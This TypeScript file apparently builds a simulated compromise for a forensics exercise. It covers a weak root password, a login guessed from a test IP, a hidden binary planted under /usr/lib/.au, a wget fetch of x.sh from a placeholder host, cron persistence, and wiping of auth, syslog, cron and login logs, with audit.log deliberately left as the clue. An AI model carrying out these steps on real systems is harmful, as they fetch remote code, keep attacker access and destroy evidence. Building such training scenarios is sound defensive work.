// He emptied what he knew of; audit.log was not among it.
import { auditOf } from '../../auditd.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import type { Stage } from '../../stage.ts'
import { guessedIn, weakRoot } from '../../weak-root.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  weakRoot(dress, { days: 6 })
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const drop = { path: '/usr/lib/.au/auditx' }
  await guessedIn(stage, '203.0.113.196', drop)
  await auditOf(stage, [['wget', '-q', '-O', '-', `http://${stage.values['SHOP']}/x.sh`]])
  await stage.inside('while ! pgrep -x auditx; do sleep 0.2; done; pkill -x auditx')
  await stage.byCron(dropper(stage, drop))
  await wipe(stage, ['auth', 'syslog', 'cron', 'logins'])
}
